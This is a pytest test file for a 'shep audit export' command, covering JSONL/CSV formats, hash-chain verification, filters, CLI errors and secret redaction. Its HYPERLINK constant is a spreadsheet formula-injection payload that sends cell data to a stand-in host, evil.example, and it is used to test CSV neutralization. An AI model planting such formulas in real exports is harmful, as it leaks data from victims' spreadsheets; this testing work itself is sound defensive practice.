"""`shep audit export`: the JSONL and CSV formats, the filters, the CLI, and flat memory.

Histories are written with the real commands (create, start, suspend on a question
and a gate, answer, approve, reject), as a worker and `shep answer` write them.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import itertools
import json
import os
import subprocess
import sys
import tracemalloc
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from uuid import UUID

import apsw
import pytest

from benchmarks.audit import fill_log
from commands.answer_question import answer_question
from commands.approve_item import approve_item
from commands.reject_item import reject_item
from events.audit import open_log, verify_chain
from events.chain import GENESIS_HASH, chain_hash
from events.errors import AmbiguousRunIdError, RunNotFoundError
from events.store import EventStore
from shep.audit.export import (
    CSV_COLUMNS,
    FORMAT,
    ExportFilter,
    ExportFilterError,
    canonical,
    iter_export,
    parse_since,
    write_csv,
    write_jsonl,
)
from shep.audit.verify_export import verify_export
from shep.cli import main
from tests.support.cli import shep
from tests.support.histories import random_run
from tests.support.store_items import ask_on_new_run, gate, question

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1, "click")'
FIRST_RUN = UUID("abcd0000-0000-4000-8000-000000000001")
SECOND_RUN = UUID("abcd0000-0000-4000-8000-000000000002")
TOKEN = "sk-ant-SECRET-0123456789abcdef-never-export-me"


@dataclass
class Decided:
    """A store with two gated runs decided by people, and one plain run."""

    first_run: UUID
    question: UUID
    rejected_gate: UUID
    second_run: UUID
    approved_gate: UUID
    plain_run: UUID


def decide_some(store: EventStore, repo: Path) -> Decided:
    """Run one: a question answered, a gate rejected with a formula for a reason.
    Run two: a gate approved by a supervisor under a policy. Then a plain run.
    """
    import random

    first, (asked, gated) = ask_on_new_run(
        store, repo, [question("q1"), gate("g1")], resumed=False, run_id=FIRST_RUN
    )
    answer_question(store, asked, actor="user:alice", option_id="small")
    reject_item(store, gated, actor="user:bob", reason=HYPERLINK)
    second, (approved,) = ask_on_new_run(
        store, repo, [gate("g2")], resumed=False, run_id=SECOND_RUN
    )
    approve_item(
        store, approved, actor="supervisor:policy-bot", comment="-ok, within policy", policy="p-7"
    )
    plain = random_run(store, random.Random(3))
    return Decided(first, asked, gated, second, approved, plain)


@pytest.fixture
def decided(store: EventStore, tmp_path: Path) -> Decided:
    return decide_some(store, tmp_path)


def export_lines(db: Path, flt: ExportFilter) -> list[bytes]:
    out = io.BytesIO()
    write_jsonl(db, flt, out)
    data = out.getvalue()
    assert data.endswith(b"\n")
    return data.split(b"\n")[:-1]


def rows(db: Path) -> list[tuple[int, str, int, str, bytes, bytes]]:
    conn = apsw.Connection(str(db))
    found = [
        (r[0], r[1], r[2], r[3], bytes(r[4]), bytes(r[5]))
        for r in conn.execute("SELECT * FROM stored_events ORDER BY notification_id")
    ]
    conn.close()
    return found


def test_every_line_is_canonical_and_each_event_verifies_alone(
    decided: Decided, db_path: Path
) -> None:
    """Sorted keys, no whitespace, UTF-8; each event line recomputes its own chain hash."""
    lines = export_lines(db_path, ExportFilter())
    for line in lines:
        assert canonical(json.loads(line)) == line
    events = [json.loads(line) for line in lines[1:-1]]
    for e in events:
        state = base64.b64decode(e["state"], validate=True)
        previous = bytes.fromhex(e["prev_hash"])
        assert chain_hash(
            previous, e["position"], e["stream"].encode(), e["version"], e["topic"].encode(), state
        ) == bytes.fromhex(e["chain_hash"])
        assert json.loads(state) == e["event"]
        assert e["at"] == e["event"]["timestamp"]
    assert events[0]["prev_hash"] == GENESIS_HASH.hex()
    assert all(b["prev_hash"] == a["chain_hash"] for a, b in itertools.pairwise(events))


def test_the_export_is_the_log_with_its_head(decided: Decided, db_path: Path) -> None:
    """Every stored event in order, its exact bytes; the first and last lines carry the head."""
    lines = export_lines(db_path, ExportFilter())
    start, *events, end = (json.loads(line) for line in lines)
    stored = rows(db_path)
    assert [
        (e["position"], e["stream"], e["version"], e["topic"], base64.b64decode(e["state"]))
        for e in events
    ] == [r[:5] for r in stored]
    assert [e["chain_hash"] for e in events] == [r[5].hex() for r in stored]
    conn = open_log(db_path)
    head = verify_chain(conn).head_hash.hex()
    conn.close()
    assert start["type"] == "export-start"
    assert start["format"] == FORMAT == "shep-audit-export/1"
    assert start["filter"] == {"run": None, "since": None, "kind": "all"}
    assert (start["head_position"], start["head_hash"]) == (len(stored), head)
    assert end == {
        "type": "export-end",
        "count": len(stored),
        "first_position": 1,
        "last_position": len(stored),
        "head_position": len(stored),
        "head_hash": head,
        "lines_sha256": hashlib.sha256(b"".join(line + b"\n" for line in lines[:-1])).hexdigest(),
        "start_sha256": hashlib.sha256(lines[0] + b"\n").hexdigest(),
    }
    assert [r["position"] for r in iter_export(db_path, ExportFilter())] == [r[0] for r in stored]


def seen_hash(asked: dict[str, object], fields: tuple[str, ...]) -> str:
    return hashlib.sha256(canonical({k: asked[k] for k in fields})).hexdigest()


def test_decisions_carry_actor_verdict_reason_and_what_was_seen(
    decided: Decided, db_path: Path
) -> None:
    """kind=decisions: the decided questions and gates, then who decided what, and why."""
    records = list(iter_export(db_path, ExportFilter(kind="decisions")))
    topics = [(r["item"], r["topic"].split(":")[1]) for r in records]
    q, rejected, approved = (
        decided.question.hex,
        decided.rejected_gate.hex,
        decided.approved_gate.hex,
    )
    assert topics == [
        (q, "QuestionAsked"),
        (rejected, "ApprovalRequested"),
        (q, "QuestionAnswered"),
        (rejected, "ApprovalRejected"),
        (approved, "ApprovalRequested"),
        (approved, "ApprovalGranted"),
    ]
    asked_q, asked_g, answered, rejection, asked_g2, approval = records
    question_seen = seen_hash(
        asked_q["event"], ("question", "choices", "options", "context", "free_text", "deadline")
    )
    gate_seen = seen_hash(asked_g["event"], ("summary", "phase", "artifacts"))
    first = decided.first_run.hex
    assert {k: asked_q[k] for k in ("item", "run", "node", "seen_hash")} == {
        "item": q,
        "run": first,
        "node": "scope",
        "seen_hash": question_seen,
    }
    assert "actor" not in asked_q
    about = ("actor", "verdict", "answer", "reason", "run", "node", "seen_hash", "policy")
    assert {k: answered.get(k) for k in about} == {
        "actor": "user:alice",
        "verdict": "answered",
        "answer": "Small: one module",
        "reason": None,
        "run": first,
        "node": "scope",
        "seen_hash": question_seen,
        "policy": None,
    }
    assert {k: rejection.get(k) for k in about} == {
        "actor": "user:bob",
        "verdict": "rejected",
        "answer": None,
        "reason": HYPERLINK,
        "run": first,
        "node": "approve",
        "seen_hash": gate_seen,
        "policy": None,
    }
    assert {k: approval.get(k) for k in about} == {
        "actor": "supervisor:policy-bot",
        "verdict": "approved",
        "answer": None,
        "reason": "-ok, within policy",
        "run": decided.second_run.hex,
        "node": "approve",
        "seen_hash": seen_hash(asked_g2["event"], ("summary", "phase", "artifacts")),
        "policy": "p-7",
    }
    assert "prompt_version" not in approval  # none recorded: omitted, not null


def test_seen_hash_changes_with_what_the_decider_saw(store: EventStore, tmp_path: Path) -> None:
    """Two gates alike but for their summary: their seen_hash differs; equal asks agree."""
    from commands.suspend_run import Ask

    def ask(interrupt: str, summary: str) -> Ask:
        return Ask(interrupt_id=interrupt, kind="approval", node="approve", summary=summary)

    ask_on_new_run(store, tmp_path, [ask("a", "Ship it"), ask("b", "Ship it")], resumed=False)
    ask_on_new_run(store, tmp_path, [ask("c", "Ship it!")], resumed=False)
    seen = [r["seen_hash"] for r in iter_export(store.path, ExportFilter()) if "seen_hash" in r]
    assert len(seen) == 3
    assert seen[0] == seen[1] != seen[2]


def test_approvals_kind_holds_only_decided_gates(decided: Decided, db_path: Path) -> None:
    """kind=approvals: gates and their decisions; no question, no pending gate."""
    store = EventStore(db_path)
    _, (pending,) = ask_on_new_run(store, db_path.parent, [gate("g9")], resumed=False)
    store.close()
    records = list(iter_export(db_path, ExportFilter(kind="approvals")))
    assert [r.get("verdict", "asked") for r in records] == [
        "asked",
        "rejected",
        "asked",
        "approved",
    ]
    assert pending.hex not in {r["item"] for r in records}
    assert pending.hex not in {
        r["item"] for r in iter_export(db_path, ExportFilter(kind="decisions"))
    }


def test_a_run_filter_takes_the_run_and_its_items_by_prefix(
    decided: Decided, db_path: Path
) -> None:
    """--run PREFIX: the run's own stream and its questions' and gates' streams, nothing else."""
    records = list(iter_export(db_path, ExportFilter(run_id=decided.first_run.hex)))
    streams = {r["stream"] for r in records}
    assert streams == {decided.first_run.hex, decided.question.hex, decided.rejected_gate.hex}
    stored = [r for r in rows(db_path) if r[1] in streams]
    assert [r["position"] for r in records] == [r[0] for r in stored]
    lines = export_lines(db_path, ExportFilter(run_id=decided.first_run.hex, kind="decisions"))
    assert json.loads(lines[0])["filter"]["run"] == decided.first_run.hex
    assert len(lines) == 2 + 4
    plain = export_lines(db_path, ExportFilter(run_id=decided.plain_run.hex[:6]))
    assert json.loads(plain[0])["filter"]["run"] == decided.plain_run.hex
    assert {json.loads(line)["stream"] for line in plain[1:-1]} == {decided.plain_run.hex}


def test_run_references_resolve_from_the_log_alone(decided: Decided, db_path: Path) -> None:
    """An unknown run, an item id, an ambiguous prefix: errors; no projection is read."""
    conn = apsw.Connection(str(db_path))
    conn.execute("DROP TABLE IF EXISTS runs")  # the projection is gone: the log suffices
    conn.close()
    assert len(list(iter_export(db_path, ExportFilter(run_id=decided.second_run.hex)))) > 0
    with pytest.raises(RunNotFoundError):
        list(iter_export(db_path, ExportFilter(run_id="ffffffffff")))
    with pytest.raises(RunNotFoundError):
        list(iter_export(db_path, ExportFilter(run_id=decided.question.hex)))
    with pytest.raises(RunNotFoundError):
        list(iter_export(db_path, ExportFilter(run_id="not-hex")))
    with pytest.raises(RunNotFoundError):
        list(iter_export(db_path, ExportFilter(run_id="")))
    with pytest.raises(AmbiguousRunIdError, match="'abcd0000' matches several runs"):
        list(iter_export(db_path, ExportFilter(run_id="abcd0000")))


def set_clock(monkeypatch: pytest.MonkeyPatch, at: datetime) -> None:
    """Commands stamp events with ``at`` (msgspec cannot encode freezegun's datetimes)."""
    import commands.create_run
    import commands.run_state
    import commands.suspend_run
    import events.base

    for module in (events.base, commands.run_state, commands.create_run, commands.suspend_run):
        monkeypatch.setattr(module, "utc_now", lambda: at)


def test_since_keeps_events_at_or_after_the_moment(
    store: EventStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """--since DATE: events stamped at or after it; a decision's gate may be older."""
    set_clock(monkeypatch, datetime(2025, 1, 10, 9, tzinfo=UTC))
    _, (early,) = ask_on_new_run(store, tmp_path, [gate("old")], resumed=False)
    set_clock(monkeypatch, datetime(2025, 2, 1, tzinfo=UTC))
    approve_item(store, early, actor="user:carol")
    late_run, _ = ask_on_new_run(store, tmp_path, [gate("new")], resumed=False)
    records = list(iter_export(store.path, ExportFilter(since=parse_since("2025-02-01"))))
    assert records
    assert {r["at"][:10] for r in records} == {"2025-02-01"}
    decision = next(r for r in records if r.get("verdict") == "approved")
    assert decision["seen_hash"]  # looked up from its gate, which is not exported
    assert decision["run"] != late_run.hex
    assert len(list(iter_export(store.path, ExportFilter(since=parse_since("2025-03-01"))))) == 0
    everything = list(iter_export(store.path, ExportFilter(since=parse_since("2025-01-10T08:00"))))
    assert len(everything) == store.max_position()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2025-05-01", datetime(2025, 5, 1, tzinfo=UTC)),
        ("2025-05-01T12:30:00Z", datetime(2025, 5, 1, 12, 30, tzinfo=UTC)),
        ("2025-05-01T14:30:00+02:00", datetime(2025, 5, 1, 12, 30, tzinfo=UTC)),
        ("2025-05-01 12:30", datetime(2025, 5, 1, 12, 30, tzinfo=UTC)),
    ],
)
def test_since_reads_iso_dates_and_times(text: str, expected: datetime) -> None:
    """A date is midnight UTC; a time without an offset is UTC."""
    assert parse_since(text) == expected


def test_bad_filters_say_what_is_wrong() -> None:
    """A bad --since or --kind is an ExportFilterError (exit 2) naming the value."""
    with pytest.raises(ExportFilterError, match="--since must be an ISO date") as since:
        parse_since("last tuesday")
    assert since.value.exit_code == 2
    with pytest.raises(ExportFilterError, match="--kind must be one of all, decisions, approvals"):
        ExportFilter(kind="everything")


def test_csv_has_fixed_columns_rfc4180_quoting_and_no_formulas(
    decided: Decided, db_path: Path
) -> None:
    """Fixed columns; commas, quotes and newlines quoted; =, +, -, @, tab, CR cells neutralized."""
    store = EventStore(db_path)
    _, (odd,) = ask_on_new_run(store, db_path.parent, [question("q-odd")], resumed=False)
    answer_question(store, odd, actor="@evil:x", text='+1, "quoted"\nsecond line')
    store.close()
    out = io.StringIO(newline="")
    count = write_csv(db_path, ExportFilter(kind="decisions"), out)
    text = out.getvalue()
    assert text.startswith(",".join(CSV_COLUMNS) + "\r\n")
    assert text.count("\r\n") == count + 1  # the header and each row; "\n" inside a cell stays
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(table[0]) == CSV_COLUMNS
    assert len(table) == count + 1 == 9
    by_verdict = {
        row[CSV_COLUMNS.index("verdict")]: dict(zip(CSV_COLUMNS, row, strict=True))
        for row in table[1:]
    }
    rejected = by_verdict["rejected"]
    assert rejected["reason"] == "'" + HYPERLINK
    assert rejected["actor"] == "user:bob"
    assert by_verdict["approved"]["reason"] == "'-ok, within policy"
    assert by_verdict["approved"]["policy"] == "p-7"
    answers = [r for r in table[1:] if r[CSV_COLUMNS.index("verdict")] == "answered"]
    odd_row = dict(zip(CSV_COLUMNS, answers[-1], strict=True))
    assert odd_row["actor"] == "'@evil:x"
    assert odd_row["answer"] == '\'+1, "quoted"\nsecond line'
    assert '"\'+1, ""quoted""\nsecond line"' in text  # RFC 4180: doubled quotes, kept newline
    for row in table[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    positions = [int(r[0]) for r in table[1:]]
    assert positions == sorted(positions)


def test_csv_neutralizes_tabs_and_carriage_returns() -> None:
    """The OWASP list: = + - @ tab CR (a leading tab or CR can hide a formula)."""
    from shep.audit.export import _cell

    assert [_cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", None, 3)] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "'\rx",
        "a=1",
        "",
        "3",
    ]


def test_an_empty_selection_is_a_valid_export(store: EventStore, tmp_path: Path) -> None:
    """No decisions yet: a first and a last line, count 0, and it verifies."""
    ask_on_new_run(store, tmp_path, [gate("g")], resumed=False)
    lines = export_lines(store.path, ExportFilter(kind="decisions"))
    assert len(lines) == 2
    end = json.loads(lines[1])
    assert (end["count"], end["first_position"], end["last_position"]) == (0, None, None)
    (tmp_path / "empty.jsonl").write_bytes(b"\n".join(lines) + b"\n")
    report = verify_export(tmp_path / "empty.jsonl")
    assert report.ok
    assert report.count == 0


def test_floats_are_written_as_json_dumps_writes_them(store: EventStore) -> None:
    """Canonical means json.dumps's form, floats too (1e+16, not 1e16): lines stay canonical."""
    from events.runs import NodeCompleted, RunCreated, Usage

    run = UUID(int=7)
    from events.base import utc_now

    store.append(
        [
            RunCreated(
                originator_id=run,
                originator_version=1,
                timestamp=utc_now(),
                workflow="w",
                agent_type="demo",
                repo="/r",
                created_by="t",
            ),
            NodeCompleted(
                originator_id=run,
                originator_version=2,
                timestamp=utc_now(),
                node="n",
                duration_ms=1,
                usage=Usage(cost_usd=1e16),
            ),
        ]
    )
    lines = export_lines(store.path, ExportFilter())
    assert b'"cost_usd":1e+16' in lines[2]
    assert all(canonical(json.loads(line)) == line for line in lines)


# --- the CLI ---------------------------------------------------------------------------------


def run_cli(capsysbinary: pytest.CaptureFixture[bytes], *args: str) -> tuple[int, bytes, str]:
    """``shep ARGS`` in this process: (exit code, stdout bytes, stderr text)."""
    try:
        main(list(args))
        code = 0
    except SystemExit as e:
        code = int(e.code or 0)
    out, err = capsysbinary.readouterr()
    return code, out, err.decode()


def test_cli_exports_to_stdout_and_verifies_offline(
    decided: Decided, db_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`shep audit export` streams JSONL to stdout; `verify --export` needs no store at all."""
    done = shep("audit", "export", check=True)
    lines = done.stdout.encode().split(b"\n")[:-1]
    ours = export_lines(db_path, ExportFilter())
    assert len(lines) == len(ours)
    assert lines[1:-1] == ours[1:-1]  # the first line has its own exported_at, the last its hash
    exported_at = {"exported_at", "lines_sha256", "start_sha256"}
    for theirs, mine in ((lines[0], ours[0]), (lines[-1], ours[-1])):
        assert {k: v for k, v in json.loads(theirs).items() if k not in exported_at} == {
            k: v for k, v in json.loads(mine).items() if k not in exported_at
        }
    exported = tmp_path / "audit.jsonl"
    exported.write_text(done.stdout)
    conn = open_log(db_path)
    head = verify_chain(conn).head_hash.hex()
    conn.close()
    nowhere = {"SHEP_HOME": str(tmp_path / "no-such-home")}
    checked = shep("audit", "verify", "--export", str(exported), env=nowhere)
    assert checked.returncode == 0, checked.stderr
    assert checked.stdout == f"OK: {len(ours) - 2} events verify. Head hash: {head}\n"
    anchored = shep(
        "audit",
        "verify",
        "--export",
        str(exported),
        "--anchor",
        f"3:{json.loads(ours[3])['chain_hash']}",
        env=nowhere,
    )
    assert anchored.stdout.startswith(
        f"OK: {len(ours) - 2} events verify. Anchor at position 3 matches."
    )
    wrong = shep(
        "audit", "verify", "--export", str(exported), "--anchor", f"3:{'0' * 64}", env=nowhere
    )
    assert wrong.returncode == 4
    assert wrong.stderr.startswith("shep: Anchor differs: the chain hash at position 3 is ")


def test_cli_output_file_and_kinds(
    decided: Decided, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    """--output writes the file and says so; --kind and --run narrow it; csv works too."""
    target = tmp_path / "decisions.jsonl"
    code, out, err = run_cli(
        capsysbinary,
        "audit",
        "export",
        "--kind",
        "decisions",
        "--run",
        decided.first_run.hex,
        "--output",
        str(target),
    )
    assert (code, err) == (0, "")
    assert out.decode() == f"Exported 4 events to {target}.\n"
    assert verify_export(target).ok
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
    code, out, err = run_cli(
        capsysbinary, "audit", "export", "--format", "csv", "--kind", "approvals"
    )
    assert (code, err) == (0, "")
    assert out.startswith(b"position,at,stream,version,topic,run,item,node,actor,verdict,")
    assert out.count(b"\r\n") == 1 + 4


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--since", "yesterday"], "shep: --since must be an ISO date or date and time"),
        (["--kind", "everything"], "shep: --kind must be one of all, decisions, approvals, not"),
        (["--format", "xml"], "shep: --format must be one of jsonl, csv, otlp-json, bundle, not"),
        (["--format", "bundle"], "shep: --format bundle writes a tar file: give --output FILE."),
        (["--sign-key", "k"], "shep: --sign-key signs a bundle: use it with --format bundle."),
    ],
)
def test_cli_bad_options_are_one_line_and_exit_2(
    decided: Decided, capsysbinary: pytest.CaptureFixture[bytes], args: list[str], message: str
) -> None:
    """Every bad option: one line on stderr, exit 2, nothing on stdout."""
    code, out, err = run_cli(capsysbinary, "audit", "export", *args)
    assert (code, out) == (2, b"")
    assert err.startswith(message)
    assert err.count("\n") == 1


def test_a_failed_export_leaves_the_old_file_and_no_half_file(
    decided: Decided,
    tmp_path: Path,
    capsysbinary: pytest.CaptureFixture[bytes],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """An export that fails midway (the disk fills after a first chunk) replaces nothing."""
    import shep.audit.export as audit_export

    target = tmp_path / "audit.jsonl"
    target.write_text("the previous export\n")

    class DiskFull:
        """Takes the first chunk of lines, then the disk is full."""

        def __init__(self, out: io.BytesIO) -> None:
            self.out, self.chunks = out, 0

        def write(self, data: bytes) -> int:
            self.chunks += 1
            if self.chunks > 1:
                raise OSError(28, "No space left on device")
            return self.out.write(data)

    real_init = audit_export._Pipe.__init__

    def full_disk(pipe: audit_export._Pipe, out: io.BytesIO, digest: object) -> None:
        real_init(pipe, DiskFull(out), digest)

    monkeypatch.setattr(audit_export, "_FLUSH_LINES", 5)
    monkeypatch.setattr(audit_export._Pipe, "__init__", full_disk)
    code, _, err = run_cli(capsysbinary, "audit", "export", "--output", str(target))
    assert code == 1
    assert err == f"shep: Cannot write {target} (No space left on device).\n"
    assert target.read_text() == "the previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        p.name for p in tmp_path.iterdir() if not p.name.startswith(".audit.jsonl")
    )
    code, _, err = run_cli(
        capsysbinary, "audit", "export", "--run", "fffffff", "--output", str(target)
    )
    assert code == 2
    assert err == "shep: No run 'fffffff'. List runs with `shep status --all`.\n"
    assert target.read_text() == "the previous export\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".audit")] == []


def test_export_works_on_a_read_only_store_without_projections(
    decided: Decided, db_path: Path, shep_home: Path, tmp_path: Path
) -> None:
    """Audit reads the log alone: projections dropped, home and file read-only, still exports."""
    conn = apsw.Connection(str(db_path))
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    for (name,) in conn.execute(
        "SELECT name FROM sqlite_master WHERE type='table' AND name NOT IN ('stored_events')"
    ).fetchall():
        conn.execute(f"DROP TABLE {name}")
    conn.close()
    if os.geteuid() != 0:
        db_path.chmod(0o444)
        shep_home.chmod(0o555)
    try:
        done = shep("audit", "export", "--kind", "decisions")
    finally:
        shep_home.chmod(0o700)
        db_path.chmod(0o600)
    assert done.returncode == 0, done.stderr
    assert len(done.stdout.splitlines()) == 2 + 6


def test_an_empty_home_exports_an_empty_log(shep_home: Path, tmp_path: Path) -> None:
    """No store yet: an empty result, not an error. The export has its start and end lines
    (no events, the genesis head), it verifies, and no store is created by exporting."""
    shep_home.mkdir()
    done = shep("audit", "export", "--kind", "decisions")
    assert (done.returncode, done.stderr) == (0, "")
    start, end = (json.loads(line) for line in done.stdout.splitlines())
    assert (start["type"], start["head_position"], start["head_hash"]) == (
        "export-start",
        0,
        "0" * 64,
    )
    assert (end["type"], end["count"], end["first_position"]) == ("export-end", 0, None)
    target = tmp_path / "empty.jsonl"
    target.write_text(done.stdout)
    verified = shep("audit", "verify", "--export", str(target))
    assert verified.returncode == 0, verified.stderr
    assert "0 events verify" in verified.stdout
    csv_done = shep("audit", "export", "--format", "csv")
    assert csv_done.returncode == 0
    assert csv_done.stdout.splitlines()[0].startswith("position,at,stream")
    assert len(csv_done.stdout.splitlines()) == 1
    assert not (shep_home / "shep.db").exists()


def test_secrets_never_appear_in_any_export(
    decided: Decided, tmp_path: Path, shep_home: Path
) -> None:
    """An agent configured with a token: the token is in no export, in any format."""
    binary = tmp_path / "bin" / "claude"
    binary.parent.mkdir()
    binary.write_text(f"#!{sys.executable}\nprint('2.1.197 (Claude Code)')\n")
    binary.chmod(0o755)
    configured = subprocess.run(
        [sys.executable, "-m", "shep", "settings", "agent", "--agent", "claude-code", "--auth",
         "token", "--token-stdin", "--binary", str(binary)],
        input=TOKEN + "\n", capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert configured.returncode == 0, configured.stderr
    assert TOKEN in (shep_home / "secrets").read_text()  # it was stored, apart
    for fmt in ("jsonl", "csv", "otlp-json"):
        done = shep("audit", "export", "--format", fmt, check=True)
        assert "AgentConfigured" in done.stdout or fmt == "otlp-json"
        assert TOKEN not in done.stdout
        assert TOKEN[8:24] not in done.stdout
        encoded = base64.b64encode(TOKEN.encode()).decode()
        assert encoded[:16] not in done.stdout


def test_otlp_and_bundle_formats_go_through_the_cli(decided: Decided, tmp_path: Path) -> None:
    """--format otlp-json and bundle reach their writers; a bundle verifies with --bundle."""
    pytest.importorskip("shep.audit.otlp")
    pytest.importorskip("shep.audit.bundle")
    traced = tmp_path / "trace.jsonl"
    done = shep("audit", "export", "--format", "otlp-json", "--output", str(traced), check=True)
    assert done.stdout.startswith("Exported ")
    assert all(json.loads(line) for line in traced.read_text().splitlines())
    bundle = tmp_path / "audit.tar"
    shep("audit", "export", "--format", "bundle", "--output", str(bundle), check=True)
    nowhere = {"SHEP_HOME": str(tmp_path / "nowhere")}
    checked = shep("audit", "verify", "--bundle", str(bundle), env=nowhere)
    assert checked.returncode == 0, checked.stderr
    assert checked.stdout.startswith("OK: ")
    data = bytearray(bundle.read_bytes())
    data[700] ^= 0x01  # inside the first member's data
    bundle.write_bytes(bytes(data))
    broken = shep("audit", "verify", "--bundle", str(bundle), env=nowhere)
    assert broken.returncode == 4  # as a broken store or export
    assert broken.stderr.startswith("shep: ")
    assert broken.stderr.count("\n") == 1


# --- memory ----------------------------------------------------------------------------------


class Sink(io.RawIOBase):
    """A file that keeps nothing: what the export holds, not what it wrote, is measured."""

    def __init__(self) -> None:
        self.size = 0

    def writable(self) -> bool:
        return True

    def write(self, data: object) -> int:
        n = len(data)  # type: ignore[arg-type]
        self.size += n
        return n


def peak_traced(db: Path) -> tuple[int, int]:
    """(peak bytes Python allocated during the export, bytes written)."""
    sink = Sink()
    tracemalloc.start()
    try:
        write_jsonl(db, ExportFilter(), sink)  # type: ignore[arg-type]
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak, sink.size


@pytest.mark.slow
def test_memory_stays_flat_as_the_log_grows(tmp_path: Path) -> None:
    """The export streams: 50k and 200k events stay under the same bound (3 MB), set by the
    chunks of lines in flight (``_FLUSH_LINES`` lines, ``_QUEUED`` chunks), not by the log.
    """
    small, big = tmp_path / "small.db", tmp_path / "big.db"
    assert fill_log(small, 50_000) > 49_000
    assert fill_log(big, 200_000) > 199_000
    small_peak, small_written = peak_traced(small)
    big_peak, big_written = peak_traced(big)
    assert big_written > 3.5 * small_written
    assert small_peak < 3_000_000
    assert big_peak < 3_000_000
